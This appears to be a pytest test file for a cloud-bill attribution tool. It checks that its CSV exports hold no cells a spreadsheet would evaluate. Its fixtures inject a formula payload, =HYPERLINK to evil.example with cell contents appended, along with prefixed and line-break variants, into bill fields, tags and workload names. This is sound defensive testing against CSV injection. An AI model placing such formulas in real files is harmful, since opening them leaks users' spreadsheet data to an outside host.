"""A bill whose names are formulas: no file for people has a cell that a spreadsheet evaluates."""

import re

import pytest

from tests.bills import focus_line, write_focus, write_workloads
from tests.spreadsheets import evaluated_cells
from tests.trueback_command import trueback

HOUR = "2026-10-03T04:00:00Z"
EVIL = '=HYPERLINK("http://evil.example?"&A1)'
# Where nothing in it is quoted, a carriage return ends a row and what follows starts a cell.
AS_A_ROW = "row\r=1+1"
RULES = """
version: 1
currency: USD
tenants: [{key: acme, name: "+acme"}, {key: globex}]
labels: {tenant: ["tag:@customer", "k8s.label:@customer"]}
pools: [{name: nat, when: {usage_type: ['Nat*']}, drivers: [{signal: "=bytes"}, {even: true}]}]
rules: [{name: "-mine", when: {service: ["-Other"]}, assign: {tenant: acme}}]
"""
NAMED_BY_OTHERS = {
    "ServiceName": EVIL,
    "ServiceCategory": f"+{EVIL}",
    "SubAccountId": f"-{EVIL}",
    "BillingAccountId": f"@{EVIL}",
    "RegionId": f"\t{EVIL}",
    "ResourceId": f"\n{EVIL}",
    "ChargeDescription": f"\uff1d{EVIL}",
    "SkuId": f"'{EVIL}",
    "ProviderName": EVIL,
    "InvoiceIssuerName": EVIL,
}
FILES = ("--bill", "bill.csv", "--signals", "signals.csv", "--workloads", "workloads.csv")


MEMORY = ("memory_request_gib_hours", "memory_used_gib_hours")
EMPTY = ("labels", "annotations", "namespace_labels", "namespace_annotations", "gpu_hours")

# A negative amount as a number, and as the text of one.
NEGATIVE, AS_TEXT = re.compile(r",-\d"), re.compile(r"'-\d")


@pytest.fixture
def work(tmp_path):
    (tmp_path / "trueback.yaml").write_text(RULES)
    (tmp_path / "changed.yaml").write_text(RULES.replace("{signal: bytes}, ", ""))
    lines = [
        focus_line(cost="3", tags={"@customer": "acme"}, **NAMED_BY_OTHERS),
        focus_line(cost="-5", tags={"@customer": EVIL}, **NAMED_BY_OTHERS),
        focus_line(cost="6", tags={"@customer": AS_A_ROW}, **NAMED_BY_OTHERS),
        focus_line(cost="2", **NAMED_BY_OTHERS),
        focus_line(cost="-7", **NAMED_BY_OTHERS | {"ServiceName": "-Other"}),
        focus_line(cost="4", SkuMeter="NatGateway-Bytes", **NAMED_BY_OTHERS),
        focus_line(cost="8", **NAMED_BY_OTHERS | {"ResourceId": "i-0aaa"}),
    ]
    write_focus(tmp_path / "bill.csv", lines)
    signal = {"meter": "=bytes", "start": HOUR, "consumer": "globex", "quantity": "3"}
    # Both are files of rows, in whose cells we have a say.
    write_workloads(tmp_path / "signals.csv", [signal | dict.fromkeys(("unit", "source"), EVIL)])
    of_nodes = {"node_cpu_core_hours": "4", "node_memory_gib_hours": "8"}
    of_pods = ("cpu_request_core_hours", "cpu_used_core_hours", *MEMORY)
    rows = [
        dict.fromkeys((*EMPTY, *of_pods, "namespace", "pod"), ""),
        dict.fromkeys(of_pods, "1") | {"labels": {"@customer": "acme"}},
        dict.fromkeys(of_pods, "1") | {"labels": {"@customer": EVIL}, "pod": "-pod"},
    ]
    names = dict.fromkeys(("node", "cluster", "namespace", "pod"), EVIL)
    usual = names | of_nodes | {"start": HOUR, "provider_id": "aws:///a/i-0aaa"}
    pods = [dict.fromkeys(EMPTY, "") | usual | row for row in rows]
    write_workloads(tmp_path / "workloads.csv", pods)
    return tmp_path


def attributed(work):
    given = ("--config", "trueback.yaml", "--period", "2026-10", "--out", "out")
    done = trueback(work, "attribute", *FILES, *given)
    assert done.returncode == 0, done.stderr
    return {path.name: path.read_bytes().decode() for path in (work / "out").glob("*.csv")}


def stdout_of(work, *arguments):
    done = trueback(work, *arguments)
    assert done.returncode == 0, done.stderr
    return done.stdout


def assert_no_formula(text):
    assert evaluated_cells(text) == []
    assert "HYPERLINK" in text
    assert NEGATIVE.search(text)
    assert not AS_TEXT.search(text)


class TestNoCellIsEvaluated:
    def test_of_an_output_folder(self, work):
        files = attributed(work)
        assert set(files) == {"statements.csv", "unallocated.csv", "usage.csv"}
        assert evaluated_cells(files["usage.csv"]) == []
        assert_no_formula(files["statements.csv"])
        assert_no_formula(files["unallocated.csv"])

    def test_of_an_explanation(self, work):
        given = ("--config", "trueback.yaml", "--format", "csv", *FILES)
        assert_no_formula(stdout_of(work, "explain", "2026-10", "acme", *given))

    def test_of_a_what_if(self, work):
        given = ("--before", "trueback.yaml", "--config", "changed.yaml", "--format", "csv", *FILES)
        assert_no_formula(stdout_of(work, "what-if", "2026-10", *given))

    @pytest.mark.parametrize("part", [(), ("--tenant", "acme")])
    def test_of_an_export(self, work, part):
        given = ("--config", "trueback.yaml", "--out", "focus", *part, *FILES)
        stdout_of(work, "export", "focus", "2026-10", *given)
        assert_no_formula((work / "focus/focus.csv").read_bytes().decode())
